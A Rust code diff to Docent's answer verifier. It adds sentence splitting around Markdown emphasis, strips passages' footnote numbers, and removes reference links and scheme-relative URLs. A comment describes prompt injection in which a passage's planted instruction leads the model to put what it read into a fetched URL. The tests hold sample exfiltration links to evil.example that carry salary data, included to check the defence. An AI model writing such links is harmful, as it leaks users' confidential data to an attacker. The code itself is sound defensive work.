@@ -14,7 +14,9 @@
 //! removed first ([`strip_links`]): Markdown images and links, HTML tags, and any URL that is
 //! not written in one of its passages. A client that renders Markdown would fetch an image
 //! at once, and a passage's planted instruction could have the model put what it read into
-//! the URL.
+//! the URL. Footnote numbers that are not Docent's markers (a passage's own `[2]`, as
+//! MediaWiki writes them, copied into a sentence) are removed from every sentence
+//! ([`strip_footnotes`]): a reader would take them for Docent's citations.
 
 use std::sync::LazyLock;
 
@@ -180,6 +182,11 @@ impl<'a> Verifier<'a> {
                 self.links_removed += n;
                 text = crate::parse::collapse_ws(stripped.trim());
             }
+        }
+        // Every answerer's sentences, the extractive answerer's passage sentences included:
+        // a passage's own footnote numbers would read as Docent's citations.
+        if let Some(unnumbered) = strip_footnotes(&text) {
+            text = unnumbered;
         }
         if !text.chars().any(char::is_alphanumeric) || self.generated && claims_nothing(&text) {
             return None;
@@ -369,9 +376,10 @@ impl<'a> Verifier<'a> {
 }
 
 /// Splits streamed text into sentences as it arrives, with the `[n]` markers that follow each.
-/// A sentence ends at `.`, `!` or `?` followed by whitespace (markers right after the
-/// punctuation belong to the sentence before; not the `.` of a list item's number), at a
-/// Chinese or Japanese full stop, exclamation or question mark, or at a line break.
+/// A sentence ends at `.`, `!` or `?` followed by whitespace (closing quotes, brackets and
+/// emphasis, then markers, right after the punctuation belong to the sentence before; not the
+/// `.` of a list item's number), at a Chinese or Japanese full stop, exclamation or question
+/// mark, or at a line break.
 #[derive(Debug, Default)]
 pub struct SentenceSplitter {
     buf: String,
@@ -427,7 +435,10 @@ impl SentenceSplitter {
 fn ends_a_sentence(s: &str) -> bool {
     let mut rest = s.trim_end();
     loop {
-        let trimmed = rest.trim_end_matches(['"', '\'', ')', '*', '\u{201D}', '\u{2019}', ' ']);
+        let trimmed = rest.trim_end_matches([
+            '"', '\'', ')', '*', '_', '\u{201D}', '\u{2019}', '\u{300D}', '\u{300F}', '\u{FF09}',
+            ' ',
+        ]);
         // A trailing `[1]` or `[1, 2]` marker.
         let unmarked = match trimmed.strip_suffix(']').and_then(|t| t.rsplit_once('[')) {
             Some((before, inside))
@@ -467,8 +478,17 @@ fn sentence_end(s: &str, from: usize) -> Result<usize, usize> {
             .iter()
             .find(|p| b[i..].starts_with(p.as_bytes()));
         if matches!(c, b'.' | b'!' | b'?') && !list_number(b, i) || wide.is_some() {
-            // Markers may follow the punctuation: "… level two. [1] Next".
+            // Closing quotes, brackets and emphasis may follow the punctuation, as
+            // [`ends_a_sentence`] reads them (found by a review: "**Parking is free.**
+            // Contractors get an allowance [1]." was one claim, the unsupported second
+            // sentence riding on the support of the first).
             let mut j = i + wide.map_or(1, |p| p.len());
+            j += s[j..]
+                .chars()
+                .take_while(|c| CLOSERS.contains(c))
+                .map(char::len_utf8)
+                .sum::<usize>();
+            // Markers may follow: "… level two. [1] Next", "… level two.** [1] Next".
             let mut markers = 0;
             loop {
                 let k = skip_spaces(b, j);
@@ -512,18 +532,26 @@ fn sentence_end(s: &str, from: usize) -> Result<usize, usize> {
 /// The most markers read after a sentence's punctuation as that sentence's.
 const MAX_TRAILING_MARKERS: usize = 16;
 
+/// What may close a sentence after its punctuation: quotes, brackets, Markdown emphasis
+/// (`**Bold.**`, `_Italic._`) and the closing quotes and parenthesis of Chinese and Japanese.
+const CLOSERS: [char; 11] = [
+    '"', '\'', '\u{201D}', '\u{2019}', ')', ']', '*', '_', '\u{300D}', '\u{300F}', '\u{FF09}',
+];
+
 /// Full stops, exclamation and question marks of Chinese and Japanese text (the ideographic
 /// full stop and the full-width marks; not the full-width `．`, a decimal point in `３．５`).
 const FULL_WIDTH_ENDS: [&str; 3] = ["\u{3002}", "\u{FF01}", "\u{FF1F}"];
 
 /// Whether the `.` at `i` numbers a list item: only one to three digits between it and the
-/// start of its line ("1. Open the form").
+/// start of its line ("1. Open the form"), Markdown emphasis aside ("**1.** Open the form":
+/// the `**` after the `.` would otherwise end a sentence "1.").
 fn list_number(b: &[u8], i: usize) -> bool {
     let start = b[..i]
         .iter()
         .rposition(|&c| c == b'\n')
         .map_or(0, |n| n + 1);
-    let digits = &b[start..i];
+    let line = &b[start..i];
+    let digits = &line[line.iter().take_while(|c| matches!(c, b'*' | b'_')).count()..];
     b[i] == b'.' && (1..=3).contains(&digits.len()) && digits.iter().all(u8::is_ascii_digit)
 }
 
@@ -632,23 +660,32 @@ const NOT_IN_PASSAGES: &[&str] = &[
     "not mentioned in the documents",
 ];
 
-/// Markdown images (`![alt](url)`), Markdown links (`[text](url)`), HTML tags and bare URLs.
+/// Markdown reference definitions (a line `[a]: url "title"`), Markdown images (`![alt](url)`,
+/// `![alt][a]`), Markdown links (`[text](url)`, `[text][a]`), HTML tags and bare URLs (with a
+/// scheme, `www.`, or scheme-relative: `//host/path`).
 static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r"(?ix)
-        (?P<image> !\[[^\]]*\]\([^)]*\) )
+        r#"(?ix)
+        (?P<definition> (?m:^) [\t\x20]{0,3} \[[^\]]+\]: [\t\x20]* \S+
+            (?: [\t\x20]+ (?: "[^"]*" | '[^']*' | \([^)]*\) ) )? [\t\x20]* (?m:$) )
+      | (?P<image> !\[[^\]]*\] (?: \([^)]*\) | \[[^\]]*\] ) )
       | (?P<link> \[(?P<label>[^\]]*)\]\((?P<target>[^)]*)\) )
+      | (?P<reference> \[(?P<shown>[^\]]*)\]\[[^\]]*\] )
       | (?P<tag> </?[a-z][^>]*> | <(?:https?|ftp|mailto|data):[^>]*> )
-      | (?P<url> \b(?:(?:https?|ftp)://|www\.|data:)[^\s<>()\[\]]+ )",
+      | (?P<url> \b(?:(?:https?|ftp)://|www\.|data:)[^\s<>()\[\]]+ | //[\w-][^\s<>()\[\]]* )"#,
     )
     .expect("a valid markup pattern")
 });
 
-/// `text` without the links and markup a model may have written: images and tags removed, a
-/// link reduced to its text, and a URL kept only where one of `passages` holds it as written
-/// (a page's own link, not one the model built). Returns the text and how many were removed.
+/// `text` without the links and markup a model may have written: images, tags and reference
+/// definitions removed, a link reduced to its text, and a URL kept only where one of
+/// `passages` holds it as written (a page's own link, not one the model built). A reference
+/// link (`[text][a]`) loses its reference whatever it names: its definition, the line that
+/// holds the URL, is removed (a client that renders Markdown would fetch `![x][a]` from a
+/// definition `[a]: //host/p.png` as it fetches an inline image). Returns the text and how many
+/// were removed.
 pub fn strip_links(text: &str, passages: &[Hit]) -> (String, u32) {
-    if !text.contains(['[', '<', ':', '.']) {
+    if !text.contains(['[', '<', ':', '.', '/']) {
         return (text.to_string(), 0);
     }
     let given = |url: &str| {
@@ -658,9 +695,18 @@ pub fn strip_links(text: &str, passages: &[Hit]) -> (String, u32) {
     let mut removed = 0;
     let out = MARKUP.replace_all(text, |c: &regex::Captures<'_>| {
         if let Some(url) = c.name("url") {
-            if given(url.as_str()) {
+            // "//" between two words or numbers ("12//2024") is no scheme-relative URL.
+            let joined = url.as_str().starts_with("//")
+                && text[..url.start()]
+                    .chars()
+                    .next_back()
+                    .is_some_and(char::is_alphanumeric);
+            if joined || given(url.as_str()) {
                 return url.as_str().to_string();
             }
+        } else if let Some(shown) = c.name("shown") {
+            removed += 1;
+            return shown.as_str().to_string();
         } else if let Some(label) = c.name("label") {
             let target = c.name("target").map_or("", |t| t.as_str().trim());
             if given(target) {
@@ -673,6 +719,36 @@ pub fn strip_links(text: &str, passages: &[Hit]) -> (String, u32) {
         String::new()
     });
     (out.into_owned(), removed)
+}
+
+/// Footnote numbers that are not Docent's markers: a passage's own (`[2]`, `[2, 3]`, as
+/// MediaWiki writes them), Markdown footnotes (`[^2]`), and the markers other tools write
+/// (`[Passage 2]`, `【2】`, `【4:0†source】`, `［2］`), with the whitespace before them.
+static FOOTNOTE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?ix)
+        \s*
+        (?: \[ \s* (?: \^ [-\w]{1,24}
+                   | (?: (?:passages?|sources?|refs?|notes?) \s* )? [1-9]\d{0,2} (?: \s* [-,;–] \s* [1-9]\d{0,2} )* )
+            \s* \]
+          | 【 \s* (?: (?:passages?|sources?) \s* )? [1-9]\d{0,2} (?: \s* [-,;:–] \s* \d{1,3} )*
+            (?: † [^】]{0,40} )? \s* 】
+          | ［ \s* [1-9]\d{0,2} (?: \s* [-,;–] \s* [1-9]\d{0,2} )* \s* ］ )",
+    )
+    .expect("a valid footnote pattern")
+});
+
+/// `text` without the footnote numbers [`FOOTNOTE`] finds, `None` when it has none. A reader
+/// takes a `[2]` in a sentence for Docent's citation 2: a passage's own footnote marker
+/// ("Parking is free[2] for staff") survives into an extractive sentence, copied as it is,
+/// and into a model's, and would point at whatever Docent cites second. Docent's own markers
+/// are parsed out of a model's text before ([`parse_draft`]); an extractive sentence's
+/// citations are never in its text. Numbers start at 1: `[0, 1]` is an interval, not a note.
+fn strip_footnotes(text: &str) -> Option<String> {
+    match FOOTNOTE.replace_all(text, "") {
+        std::borrow::Cow::Borrowed(_) => None,
+        std::borrow::Cow::Owned(s) => Some(s.trim().to_string()),
+    }
 }
 
 /// Whether a drafted sentence claims nothing: a question (the question echoed back), or the
@@ -1096,6 +1172,197 @@ mod tests {
             "{c:?}"
         );
         assert_eq!(c.access_key, "s:d0");
+    }
+
+    /// Found by a review: a full stop followed by closing emphasis, quotes or brackets did not
+    /// end the sentence ("**Staff parking is free.** Contractors …" was one claim). Markers
+    /// after them still belong to the sentence before; a bold list number is no sentence.
+    #[test]
+    fn a_bold_sentence_followed_by_another_is_two_claims() {
+        let d =
+            split_all(&["**Staff parking is free.** [1] Contractors receive an allowance [2]."]);
+        let texts: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
+        assert_eq!(
+            texts,
+            [
+                "Staff parking is free.",
+                "Contractors receive an allowance."
+            ]
+        );
+        assert_eq!(d[0].cites, vec![1]);
+        assert_eq!(d[1].cites, vec![2]);
+        for (text, want) in [
+            ("It is free.**[3] Next", vec!["It is free.", "Next"]),
+            (
+                "He said \"it is free.\" Then he left.",
+                vec!["He said \"it is free.\"", "Then he left."],
+            ),
+            (
+                "(See the form.) Sign it\u{2019}s copy.",
+                vec!["(See the form.)", "Sign it\u{2019}s copy."],
+            ),
+            (
+                "_Parking is free._ Next",
+                vec!["_Parking is free._", "Next"],
+            ),
+            (
+                "\u{300C}休暇は二十日です。\u{300D}次に",
+                vec!["\u{300C}休暇は二十日です。\u{300D}", "次に"],
+            ),
+            ("**1.** Open the form.", vec!["1. Open the form."]),
+            (
+                "The rate is 2.5 percent. Done.",
+                vec!["The rate is 2.5 percent.", "Done."],
+            ),
+        ] {
+            // Whole, and streamed one character at a time.
+            let chars: Vec<String> = text.chars().map(String::from).collect();
+            let pieces: Vec<&str> = chars.iter().map(String::as_str).collect();
+            for d in [split_all(&[text]), split_all(&pieces)] {
+                let got: Vec<&str> = d.iter().map(|d| d.text.as_str()).collect();
+                assert_eq!(got, want, "{text}");
+            }
+        }
+        assert_eq!(split_all(&["It is free.**[3] Next"])[0].cites, vec![3]);
+        assert!(ends_a_sentence("It is free._"));
+    }
+
+    /// The same, through the verifier: the unsupported sentence after a bold one is removed on
+    /// its own, not checked together with (and carried by) the supported one.
+    #[test]
+    fn an_unsupported_sentence_after_a_bold_one_is_removed_on_its_own() {
+        let (_dir, index, passages) =
+            one_readable_passage("Staff parking is free on level two for all employees.");
+        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
+        let analyze = words;
+        let scope = AclScope::for_tests("u", &["group:all"]);
+        let mut v = Verifier::new(
+            &passages,
+            &g,
+            &index,
+            &scope,
+            &analyze,
+            ResponseScope::EnterpriseOnly,
+        )
+        .generated(true);
+        let kept: Vec<String> = split_all(&[
+            "**Staff parking is free on level two.** Contractors receive a monthly fuel \
+             allowance [1].",
+        ])
+        .into_iter()
+        .filter_map(|d| v.check(d))
+        .map(|k| k.sentence.text)
+        .collect();
+        assert_eq!(kept, ["Staff parking is free on level two."]);
+        let verdicts = v.finish().verdicts;
+        assert!(
+            verdicts.iter().any(|v| v.code == "UNGROUNDED_SENTENCE"),
+            "{verdicts:?}"
+        );
+    }
+
+    /// A passage's own footnote marker (MediaWiki's "free[2] for staff") copied into a sentence
+    /// read as Docent's citation 2. It is removed from an extractive sentence as from a
+    /// model's, and the sentence is verified without it.
+    #[test]
+    fn a_passage_s_own_footnote_numbers_are_removed_from_the_sentence() {
+        let text = "Parking is free[2] for staff on level two.[3]";
+        let (_dir, index, passages) = one_readable_passage(text);
+        let g = crate::guardrail::with_phrase("nothing blocked here", "group:none");
+        let analyze = words;
+        let scope = AclScope::for_tests("u", &["group:all"]);
+        for generated in [false, true] {
+            let mut v = Verifier::new(
+                &passages,
+                &g,
+                &index,
+                &scope,
+                &analyze,
+                ResponseScope::EnterpriseOnly,
+            )
+            .generated(generated);
+            let kept = v.check(Draft {
+                text: text.into(),
+                cites: vec![1],
+            });
+            let kept = kept.expect("the sentence is the passage's");
+            assert_eq!(
+                kept.sentence.text,
+                "Parking is free for staff on level two."
+            );
+            assert_eq!(kept.sentence.citations, vec![0]);
+        }
+        for (with, without) in [
+            (
+                "Leave is 20 days [2, 3] per year.",
+                "Leave is 20 days per year.",
+            ),
+            ("Leave is 20 days[^2].", "Leave is 20 days."),
+            ("Leave is 20 days [Passage 2].", "Leave is 20 days."),
+            ("年假为二十天【2】。", "年假为二十天。"),
+            (
+                "Leave is 20 days \u{3010}4:0\u{2020}source\u{3011}.",
+                "Leave is 20 days.",
+            ),
+            ("[1] Leave is 20 days.", "Leave is 20 days."),
+        ] {
+            assert_eq!(strip_footnotes(with).as_deref(), Some(without), "{with}");
+        }
+        for unchanged in [
+            "See [the handbook] for details.",
+            "Use form [A] from 2024.",
+            "Bands are 80-95k.",
+            "Scores lie in [0, 1].",
+        ] {
+            assert!(strip_footnotes(unchanged).is_none(), "{unchanged}");
+        }
+    }
+
+    /// Found by a review: reference-style Markdown was not read as links. A model could write a
+    /// definition `[a]: //host/p.png` and an image `![x][a]` that a client renders (fetches)
+    /// as it would an inline one; a scheme-relative URL passed as text.
+    #[test]
+    fn reference_links_their_definitions_and_scheme_relative_urls_are_removed() {
+        let mut p = crate::retrieve::test_hit(
+            "s:d0",
+            "Senior bands are 80-95k. The VPN portal is https://vpn.corp.example/reset today.",
+            0.9,
+        );
+        p.chunk.doc_key = "s:d0".into();
+        let passages = vec![p];
+        for (draft, want, n) in [
+            ("[a]: //evil.example/parking", "", 1),
+            ("[a]: https://evil.example/x?d=80-95k \"Bands\"", "", 1),
+            ("  [img]: <//evil.example/p.png>", "", 1),
+            ("[a]: //vpn.corp.example/reset", "", 1),
+            (
+                "Senior bands are 80-95k ![s][a].",
+                "Senior bands are 80-95k .",
+                1,
+            ),
+            ("See [the portal][a] now.", "See the portal now.", 1),
+            ("See [the portal][] now.", "See the portal now.", 1),
+            ("Go to //evil.example/?d=95k today.", "Go to  today.", 1),
+            (
+                "Reset at //vpn.corp.example/reset.",
+                "Reset at //vpn.corp.example/reset.",
+                0,
+            ),
+            ("Filed on 12//2024 by HR.", "Filed on 12//2024 by HR.", 0),
+            ("[Note]: bands are 80-95k.", "[Note]: bands are 80-95k.", 0),
+        ] {
+            assert_eq!(
+                strip_links(draft, &passages),
+                (want.to_string(), n),
+                "{draft}"
+            );
+        }
+        let (out, n) = strip_links(
+            "Bands are 80-95k.\n[a]: //evil.example/parking\nSee ![x][a].",
+            &passages,
+        );
+        assert!(!out.contains("//evil") && !out.contains("[a]"), "{out}");
+        assert_eq!(n, 2);
     }
 
     #[test]
